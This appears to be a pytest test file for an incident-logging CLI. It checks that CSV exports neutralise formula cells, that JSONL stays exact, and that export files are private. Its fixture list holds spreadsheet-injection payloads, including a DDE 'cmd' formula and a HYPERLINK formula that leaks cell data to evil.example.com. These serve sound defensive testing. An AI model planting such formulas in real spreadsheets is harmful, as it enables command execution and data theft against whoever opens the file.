"""CSV exports neutralise cells a spreadsheet would run as a formula (unless ``--raw``),
JSONL stays byte-exact, and export files are private (0600) unless the user says
otherwise."""

from __future__ import annotations

import csv
import os
import stat
from pathlib import Path

import pytest

from tests.cli_helpers import Warroom
from warroom.audit.export import read_jsonl

FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example.com/?leak="&A1,"click")',
    "+1+2",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1 after a tab",
    "\r=1+1 after a carriage return",
]
HARMLESS = ["rolled back 4411", "a=b is fine in the middle", "'already quoted"]


@pytest.fixture
def wr(tmp_path: Path) -> Warroom:
    w = Warroom(tmp_path / "w.db")
    assert w("declare", "--sev", "2", "--title", "Checkout down").exit_code == 0
    for text in FORMULAS + HARMLESS:
        assert w("log", "INC-1", "--allow-control", "--", text).exit_code == 0, text
    assert w("log", "INC-1", "by a formula-named author", actor="@admin").exit_code == 0
    return w


def _cells(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as f:
        return list(csv.DictReader(f))


def test_formula_cells_get_a_leading_quote_unless_raw(wr: Warroom, tmp_path: Path) -> None:
    out = tmp_path / "inc.csv"
    assert wr("export", "INC-1", "--format", "csv", "-o", str(out)).exit_code == 0
    rows = _cells(out)
    texts = [r["text"] for r in rows][-len(FORMULAS + HARMLESS) - 1 : -1]
    assert texts == ["'" + t for t in FORMULAS] + HARMLESS
    assert rows[-1]["author"] == "'@admin"
    assert not any(
        cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r.values()
    )
    raw = tmp_path / "raw.csv"
    assert wr("export", "INC-1", "--format", "csv", "--raw", "-o", str(raw)).exit_code == 0
    rows = _cells(raw)
    assert [r["text"] for r in rows][-len(FORMULAS + HARMLESS) - 1 : -1] == FORMULAS + HARMLESS
    assert rows[-1]["author"] == "@admin"


def test_jsonl_keeps_every_text_exactly(wr: Warroom, tmp_path: Path) -> None:
    out = tmp_path / "inc.jsonl"
    assert wr("export", "INC-1", "--format", "jsonl", "-o", str(out)).exit_code == 0
    records = read_jsonl(out.read_text(encoding="utf-8"))
    assert [r["text"] for r in records][-len(FORMULAS + HARMLESS) - 1 : -1] == FORMULAS + HARMLESS
    r = wr("export", "INC-1", "--format", "jsonl", "--raw")
    assert r.exit_code == 2 and "--raw is for CSV" in r.stderr


def _mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def test_export_files_are_private_unless_the_user_says_otherwise(
    wr: Warroom, tmp_path: Path
) -> None:
    umask = os.umask(0o022)
    try:
        for fmt in ("csv", "jsonl"):
            new = tmp_path / f"new.{fmt}"
            assert wr("export", "--all", "--format", fmt, "-o", str(new)).exit_code == 0
            assert _mode(new) == 0o600
        shared = tmp_path / "shared.csv"
        shared.write_text("old")
        shared.chmod(0o640)  # chosen by the user: kept
        assert wr("export", "--all", "--format", "csv", "-o", str(shared)).exit_code == 0
        assert _mode(shared) == 0o640 and shared.read_text().startswith("ref,")
        told = tmp_path / "told.csv"
        r = wr("export", "--all", "--format", "csv", "-o", str(told), "--mode", "644")
        assert r.exit_code == 0 and _mode(told) == 0o644
        assert os.umask(0o022) == 0o022  # the export put the umask back
    finally:
        os.umask(umask)


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["-o", "x.csv", "--mode", "9"], "--mode '9': give the file mode in octal"),
        (["-o", "x.csv", "--mode", "1777"], "--mode '1777': give the file mode in octal"),
        (["--mode", "600"], "--mode is for a file written with -o."),
    ],
)
def test_a_bad_mode_is_refused_and_nothing_written(
    wr: Warroom, tmp_path: Path, args: list[str], message: str
) -> None:
    args = [str(tmp_path / a) if a == "x.csv" else a for a in args]
    r = wr("export", "--all", "--format", "csv", *args)
    assert r.exit_code == 2 and message in r.stderr
    assert not (tmp_path / "x.csv").exists()
